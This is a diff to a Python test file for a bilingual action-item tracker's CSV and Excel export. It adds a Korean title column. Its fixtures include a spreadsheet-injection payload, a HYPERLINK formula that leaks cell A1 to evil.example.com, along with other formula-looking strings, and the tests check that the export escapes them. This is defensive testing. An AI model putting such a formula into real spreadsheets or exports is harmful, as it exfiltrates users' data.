@@ -12,8 +12,8 @@ from jcm.accounts.models import Organization, User
 from jcm.extensions import db
 from jcm.mou.models import FocusArea
 
-HEADERS = ["Reference", "Title", "Focus area", "Focus area title", "Origin meeting", "U.S. owners",
-           "Korean owners", "Due date", "Status", "Overdue", "Last update (UTC)"]
+HEADERS = ["Reference", "Title (English)", "Title (Korean)", "Focus area", "Focus area title", "Origin meeting",
+           "U.S. owners", "Korean owners", "Due date", "Status", "Overdue", "Last update (UTC)"]
 BOM = b"\xef\xbb\xbf"
 FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click for details")'
 
@@ -121,7 +121,7 @@ def test_formula_looking_text_is_shown_never_run(client, auth, committee, make_a
     for title in (FORMULA, "+1 555 0100 call the NSF desk", "-2 days slip agreed", "@SUM(A1:A9)"):
         make_action_item(title)
     auth.login(committee.us_secretariat)
-    titles = [row["Title"] for row in read_csv(client.get("/action-items.csv?sort=ref"))]
+    titles = [row["Title (English)"] for row in read_csv(client.get("/action-items.csv?sort=ref"))]
     assert titles == ["'" + FORMULA, "'+1 555 0100 call the NSF desk", "'-2 days slip agreed", "'@SUM(A1:A9)"]
     sheet = read_xlsx(client.get("/action-items.xlsx?sort=ref"))
     cell = sheet["B2"]
@@ -141,7 +141,7 @@ def test_the_workbook_has_bold_frozen_headers_real_dates_and_hangul(client, auth
     assert [cell.value for cell in sheet[1]] == HEADERS
     assert all(cell.font.bold for cell in sheet[1])
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == "A1:K5"
+    assert sheet.auto_filter.ref == "A1:L5"
     rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
     datasets = rows["JCM12-A01"]
     due = datasets[HEADERS.index("Due date")]
@@ -150,8 +150,8 @@ def test_the_workbook_has_bold_frozen_headers_real_dates_and_hangul(client, auth
     assert datasets[HEADERS.index("Korean owners")].value == "박지훈"
     assert isinstance(datasets[HEADERS.index("Last update (UTC)")].value, datetime)
     assert rows["JCM-X001"][HEADERS.index("Overdue")].value == "yes"
-    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJK"}
-    assert widths["H"] == 12 and 10 <= widths["A"] < widths["B"] <= 60
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL"}
+    assert widths["I"] == 12 and 10 <= widths["A"] < widths["B"] <= 60
 
 
 def test_the_readers_language_changes_labels_not_the_data(app, client, auth, committee, register):
@@ -166,7 +166,7 @@ def test_the_readers_language_changes_labels_not_the_data(app, client, auth, com
     assert len(korean_raw[0]) == len(HEADERS)
     assert korean_raw[0][0] == "참조 번호" and "기한" in korean_raw[0]  # the headers speak Korean
     korean = [dict(zip(HEADERS, row)) for row in korean_raw[1:]]
-    for key in ("Reference", "Title", "Focus area", "Due date", "Last update (UTC)"):
+    for key in ("Reference", "Title (English)", "Title (Korean)", "Focus area", "Due date", "Last update (UTC)"):
         assert [row[key] for row in korean] == [row[key] for row in english]
     datasets = next(row for row in korean if row["Reference"] == "JCM12-A01")
     assert datasets["Focus area title"] == "과학을 위한 AI 및 활용 지향 연구"
